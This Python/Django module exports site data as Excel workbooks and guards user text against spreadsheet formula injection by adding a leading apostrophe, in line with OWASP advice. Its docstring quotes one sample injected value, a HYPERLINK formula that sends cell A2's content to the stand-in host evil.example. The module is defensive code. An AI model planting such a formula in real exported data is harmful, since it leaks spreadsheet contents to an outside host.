"""What every workbook the site writes shares: user text is text, never a formula.

A spreadsheet runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (and, once saved as
CSV and opened again, one beginning with a tab or a carriage return): an enterprise named
``=HYPERLINK("http://evil.example/?x="&A2,"Click")`` would become a live link. As OWASP advises
against CSV injection, such text is written with a leading apostrophe (Excel's own "this is
text" mark), and always as a string cell. Imports take the apostrophe off again, so a value
survives an export and re-import unchanged.
"""

from __future__ import annotations

import datetime
import io
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any
from urllib.parse import quote

from django.db.models import Model
from django.http import HttpResponse
from django.utils.encoding import force_str
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def _formula_like(text: str) -> bool:
    # Apostrophes already in front are counted in, so that a guarded text survives a round trip.
    return text.lstrip(GUARD).startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """Return ``text`` as a spreadsheet must hold it: guarded when it would start a formula."""
    return GUARD + text if _formula_like(text) else text


def unguard(text: str) -> str:
    """Return text read from a workbook without the guard that ``neutralise`` put before it."""
    return text[1:] if text.startswith(GUARD) and _formula_like(text[1:]) else text


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def attachment(content: bytes, content_type: str, *, name: str, fallback: str) -> HttpResponse:
    """Return ``content`` as a download named ``name`` (RFC 5987), ``fallback`` for old clients."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = (
        f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(name)}"
    )
    return response


@dataclass(frozen=True)
class Column:
    """One column of a list: its header and how to read its value from a row."""

    label: Any
    value: Callable[[Any], Any]


def attr(path: str) -> Callable[[Any], Any]:
    """Return a reader of a dotted attribute path that yields None through a missing link."""
    parts = path.split(".")

    def read(row):
        value = row
        for part in parts:
            if value is None:
                return None
            value = value.get(part) if isinstance(value, dict) else getattr(value, part)
            if callable(value) and not isinstance(value, Model):
                value = value()
        return value

    return read


def cell_value(value: Any) -> Any:
    """Return a value Excel can hold: numbers, dates and text (lazy strings and models as text).

    Text that a spreadsheet would run as a formula is neutralised (core.exports).
    """
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime.datetime):
        # Excel has no time zones: write the local wall-clock time the screen shows.
        if value.tzinfo is not None:
            from django.utils import timezone

            value = timezone.localtime(value).replace(tzinfo=None)
        return value
    if isinstance(value, datetime.date):
        return value
    return neutralise(force_str(value))


def render_xlsx(*, title: str, columns: Sequence[Column], rows: Iterable[Any]) -> bytes:
    """Return a workbook of one sheet: a bold header row of the labels, then one line per row."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))
    header = []
    for column in columns:
        cell = WriteOnlyCell(sheet, value=neutralise(force_str(column.label)))
        cell.font = Font(bold=True)
        header.append(cell)
    sheet.append(header)
    for row in rows:
        sheet.append([cell_value(column.value(row)) for column in columns])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(
    *, title: str, filename: str, columns: Sequence[Column], rows: Iterable[Any]
) -> HttpResponse:
    """Return ``rows`` as an .xlsx download named ``filename`` (without extension)."""
    content = render_xlsx(title=title, columns=columns, rows=rows)
    ascii_name = filename.encode("ascii", "ignore").decode() or "export"
    return attachment(content, XLSX, name=f"{filename}.xlsx", fallback=f"{ascii_name}.xlsx")


def wants_xlsx(request) -> bool:
    """Return whether the list was asked for as a spreadsheet (``?format=xlsx``)."""
    return request.GET.get("format") == "xlsx"


def _sheet_title(title: str) -> str:
    # Excel refuses these characters in sheet names and more than 31 characters.
    cleaned = "".join(" " if ch in "[]:*?/\\" else ch for ch in force_str(title))
    return cleaned[:31] or "Sheet1"


PDF = "application/pdf"
